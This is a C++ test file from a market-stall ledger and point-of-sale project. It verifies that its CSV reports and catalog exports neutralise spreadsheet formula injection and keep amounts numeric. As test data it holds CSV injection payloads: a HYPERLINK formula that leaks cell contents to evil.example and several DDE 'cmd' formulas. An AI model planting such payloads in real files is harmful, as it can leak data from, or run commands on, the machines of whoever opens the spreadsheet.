// Issue 11's formula injection: names an organiser or a stall owner types, beginning with =, +,
// - or @, written into a CSV that a spreadsheet runs as a formula. Every CSV the binaries
// write neutralises such a text cell with a "'" in front (OWASP's rule, core/csv.h) and writes
// the amounts it computed as plain numbers, a minus sign included:
//   - the ledger's reports, from its console (`lapak-ledger report … --csv`) and over HTTP
//     (GET /v1/reports/…&format=csv), with an event and a stall named by `lapak-ledger` admin
//     commands;
//   - the stall's catalog (`lapak catalog export`), with products imported from a file.
#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

#include <fmt/core.h>
#include <nlohmann/json.hpp>

#include "core/csv.h"
#include "tests/security/attacker.h"
#include "tests/sync/ledger_process.h"
#include "tests/sync/stall_fixture.h"

namespace lapak::testing {
namespace {

using nlohmann::json;

const std::string kLapak = LAPAK_CLI_PATH;
const std::vector<std::string> kTerminalEnv = {"LAPAK_NOW=2026-11-22T13:30:00Z", "LAPAK_LANG=en"};
constexpr char kEvent[] = "bazar-csv-2026";
constexpr char kOtherEvent[] = "bazar-lain-2026";
constexpr char kDay[] = "2026-11-22";

// What an organiser (or whoever took the admin's console) may type as names.
const std::string kEventName = R"(=HYPERLINK("http://evil.example/?leak="&A1,"Laporan"))";
const std::string kProvince = "+Jawa Tengah";
const std::string kRegency = R"(@SUM(1+1)*cmd|' /C calc'!A0)";
const std::string kStallName = R"(=cmd|' /C calc'!A0)";
const std::string kCategory = "-2+3+cmd|' /C calc'!A0";

bool IsNumber(const std::string& cell) {
  const size_t digits = cell.starts_with('-') ? 1 : 0;
  return cell.size() > digits &&
         cell.find_first_not_of("0123456789.", digits) == std::string::npos;
}

// A parsed CSV file: its header row names the columns.
struct Table {
  std::vector<std::string> columns;
  std::vector<std::vector<std::string>> rows;

  // The row whose first column is `section` and second `key`, by column name; empty if none.
  std::map<std::string, std::string> Row(const std::string& section, const std::string& key) const {
    std::map<std::string, std::string> named;
    for (const auto& row : rows) {
      if (row.size() >= 2 && row[0] == section && row[1] == key) {
        for (size_t i = 0; i < columns.size() && i < row.size(); ++i) named[columns[i]] = row[i];
      }
    }
    return named;
  }
  // Every cell that a spreadsheet would run as a formula: one that starts with a formula
  // character and is not a number; "" when none.
  std::string Formulas() const {
    std::string found;
    for (const auto& row : rows) {
      for (const std::string& cell : row) {
        if (!cell.empty() && std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos &&
            !IsNumber(cell)) {
          found += " [" + cell + "]";
        }
      }
    }
    return found;
  }
  bool Holds(const std::string& cell) const {
    for (const auto& row : rows) {
      for (const std::string& c : row) {
        if (c == cell) return true;
      }
    }
    return false;
  }
};

Table ParseTable(const std::string& text) {
  Result<std::vector<CsvRecord>> records = ParseCsv(text);
  if (!records.ok() || records->empty()) {
    throw std::runtime_error("not CSV: " + records.status().ToString() + "\n" + text);
  }
  Table table{(*records)[0].fields, {}};
  for (size_t i = 1; i < records->size(); ++i) table.rows.push_back((*records)[i].fields);
  return table;
}

class CsvCellsTest : public ::testing::Test {
 protected:
  // An event, its stall and its terminal named as above: the terminal sold, voided and closed
  // the day, and synced with `lapak sync`. Beside it an event to compare with, whose stall sold
  // more: the comparison's differences are negative.
  void SetUpLedger() {
    const ledger::sql::Location& db = ledger_.database();
    LedgerAdmin(db, {"event", "add", kEvent, "--name=" + kEventName, "--province=" + kProvince,
                     "--regency=" + kRegency, "--from", "2026-11-20", "--to", "2026-11-22"});
    LedgerAdmin(db, {"stall", "add", kEvent, "BKS-07", "--name=" + kStallName, "--category=" + kCategory});
    stall_.Sell(25000, {Cash(50000)});
    stall_.Sell(18000, {Qris(18000)});
    stall_.Void(stall_.Sell(7000, {Cash(7000)}).receipt);
    stall_.CloseDay(25000);
    Sync(stall_, "BKS-07", "T1");

    LedgerAdmin(db, {"event", "add", kOtherEvent, "--name", "Bazar Lain", "--province", "Jawa Tengah",
                     "--regency", "Kota Semarang", "--from", "2026-11-20", "--to", "2026-11-22"});
    LedgerAdmin(db, {"stall", "add", kOtherEvent, "BKS-01", "--name", "Bakso", "--category", "makanan"});
    other_.Sell(100000, {Transfer(100000)});
    Sync(other_, "BKS-01", "T2");
  }
  void Sync(StallFixture& stall, const std::string& stall_id, const std::string& terminal_id) {
    const std::string code = FirstLine(LedgerAdmin(
        ledger_.database(), {"terminal", "enrol", stall_id, terminal_id, "--url", ledger_.url(), "--no-qr"}));
    const RunResult enrolled =
        testing::Run({kLapak, "--db", stall.db_path(), "enrol", code, "--pin", kStallOwnerPin}, kTerminalEnv);
    ASSERT_EQ(0, enrolled.exit_code) << enrolled.err;
    const RunResult synced = testing::Run({kLapak, "--db", stall.db_path(), "sync"}, kTerminalEnv);
    ASSERT_EQ(0, synced.exit_code) << synced.err;
  }

  std::string CliReport(const std::vector<std::string>& args) {
    std::vector<std::string> all = {"report"};
    all.insert(all.end(), args.begin(), args.end());
    all.push_back("--csv");
    return LedgerAdmin(ledger_.database(), all);
  }
  std::string HttpReport(const std::string& target) {
    const RawAnswer answer = Exchange(
        ledger_.port(), GetRequest(ledger_.port(), target, "Authorization: Bearer " + ledger_.AdminToken() + "\r\n"));
    EXPECT_EQ(200, answer.status) << target << ": " << answer.body;
    EXPECT_EQ(0u, answer.Header("content-type").find("text/csv")) << target;
    return answer.body;
  }

  LedgerUnderAttack ledger_;
  StallFixture stall_{ledger_.dir().File("stall.db"), "BKS-07", "T1"};
  StallFixture other_{ledger_.dir().File("other.db"), "BKS-01", "T2"};
};

TEST_F(CsvCellsTest, LedgerReportsNeutraliseNamesAndKeepAmountsAsNumbers) {
  SetUpLedger();
  const DayFigures sold = stall_.Figures(kDay);
  ASSERT_EQ(43000, sold.net.rupiah());  // 25.000 + 18.000 + 7.000 − the void of those 7.000

  struct Report {
    std::string what;
    std::string csv;
  };
  const std::vector<Report> reports = {
      {"report day (console)", CliReport({"day", kEvent, kDay})},
      {"report day (HTTP)", HttpReport(fmt::format("/v1/reports/day?event={}&day={}&format=csv", kEvent, kDay))},
      {"report event (console)", CliReport({"event", kEvent})},
      {"report event (HTTP)", HttpReport(fmt::format("/v1/reports/event?event={}&format=csv", kEvent))},
      {"report period (console)", CliReport({"period", "--from", "2026-11-01", "--to", "2026-11-30"})},
      {"report period (HTTP)", HttpReport("/v1/reports/period?from=2026-11-01&to=2026-11-30&format=csv")},
      {"report compare (console)", CliReport({"compare", kEvent, kOtherEvent})},
      {"report compare (HTTP)", HttpReport(fmt::format("/v1/reports/compare?event={}&previous={}&format=csv", kEvent, kOtherEvent))},
  };
  for (const Report& report : reports) {
    const Table table = ParseTable(report.csv);
    EXPECT_EQ("", table.Formulas()) << report.what << ":\n" << report.csv;
  }

  // The hostile names are there, each behind its "'".
  const Table day = ParseTable(reports[0].csv);
  const auto stall_row = day.Row("stall", "BKS-07");
  ASSERT_FALSE(stall_row.empty()) << reports[0].csv;
  EXPECT_EQ("'" + kStallName, stall_row.at("name"));
  EXPECT_EQ("'" + kCategory, stall_row.at("category"));
  EXPECT_TRUE(day.Holds("'" + kCategory)) << "the category section";
  // The amounts are numbers as computed.
  EXPECT_EQ(std::to_string(sold.net.rupiah()), stall_row.at("net"));
  EXPECT_EQ(std::to_string(sold.gross.rupiah()), stall_row.at("gross"));
  EXPECT_EQ("0", stall_row.at("z_difference"));
  EXPECT_EQ(reports[0].csv, reports[1].csv) << "the console and HTTP disagree";

  const Table event = ParseTable(reports[2].csv);
  EXPECT_TRUE(event.Holds("'" + kRegency)) << reports[2].csv;
  EXPECT_TRUE(event.Holds("'" + kStallName)) << reports[2].csv;

  const Table period = ParseTable(reports[4].csv);
  const auto event_row = period.Row("event", kEvent);
  ASSERT_FALSE(event_row.empty()) << reports[4].csv;
  EXPECT_EQ("'" + kEventName, event_row.at("name"));
  EXPECT_EQ("'" + kProvince, event_row.at("province"));
  EXPECT_EQ("'" + kRegency, event_row.at("regency"));
  EXPECT_EQ(std::to_string(sold.net.rupiah()), event_row.at("net"));

  // A negative amount stays a number: -57000, not '-57000.
  const Table compare = ParseTable(reports[6].csv);
  const auto net = compare.Row("total", "net");
  ASSERT_FALSE(net.empty()) << reports[6].csv;
  EXPECT_EQ("-57000", net.at("difference")) << reports[6].csv;
  EXPECT_EQ(reports[6].csv, reports[7].csv) << "the console and HTTP disagree";
}

TEST(CatalogCsvTest, ExportNeutralisesProductNamesAndReadsBackUnchanged) {
  const std::string kHyperlink = R"(=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini"))";
  TempDir dir;
  StallFixture stall(dir.File("stall.db"), "BKS-07", "T1");
  // The file as a spreadsheet saves it: quotes doubled inside a quoted field.
  WriteFile(dir.File("catalog.csv"),
            "sku,name,category,price\n"
            "HYP-1,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Klik di sini\"\")\",+Minuman,15000\n"
            "SUM-1,@SUM(A1:A9),-Lain,2500\n"
            "OK-1,Es Teh Manis,Minuman,5000\n");
  const RunResult imported = testing::Run({kLapak, "--db", stall.db_path(), "catalog", "import", dir.File("catalog.csv"),
                                  "--pin", kStallOwnerPin},
                                 kTerminalEnv);
  ASSERT_EQ(0, imported.exit_code) << imported.err;

  const RunResult exported = testing::Run({kLapak, "--db", stall.db_path(), "catalog", "export"}, kTerminalEnv);
  ASSERT_EQ(0, exported.exit_code) << exported.err;
  const Table table = ParseTable(exported.out);
  EXPECT_EQ("", table.Formulas()) << exported.out;
  ASSERT_EQ((std::vector<std::string>{"sku", "name", "category", "price"}), table.columns);
  std::map<std::string, std::vector<std::string>> by_sku;
  for (const auto& row : table.rows) by_sku[row.at(0)] = row;
  EXPECT_EQ((std::vector<std::string>{"HYP-1", "'" + kHyperlink, "'+Minuman", "15000"}), by_sku["HYP-1"]);
  EXPECT_EQ((std::vector<std::string>{"SUM-1", "'@SUM(A1:A9)", "'-Lain", "2500"}), by_sku["SUM-1"]);
  EXPECT_EQ((std::vector<std::string>{"OK-1", "Es Teh Manis", "Minuman", "5000"}), by_sku["OK-1"]);

  // The "'" is only for spreadsheets: another terminal importing the export has the names.
  WriteFile(dir.File("exported.csv"), exported.out);
  StallFixture other(dir.File("other.db"), "BKS-08", "T2");
  ASSERT_EQ(0, testing::Run({kLapak, "--db", other.db_path(), "catalog", "import", dir.File("exported.csv"), "--pin",
                    kStallOwnerPin},
                   kTerminalEnv)
                   .exit_code);
  const RunResult listed = testing::Run({kLapak, "--db", other.db_path(), "catalog", "list", "--json"}, kTerminalEnv);
  ASSERT_EQ(0, listed.exit_code) << listed.err;
  std::map<std::string, std::string> names;
  for (const json& product : json::parse(listed.out)) names[product["sku"]] = product["name"];
  EXPECT_EQ(kHyperlink, names["HYP-1"]);
  EXPECT_EQ("@SUM(A1:A9)", names["SUM-1"]);
}

}  // namespace
}  // namespace lapak::testing
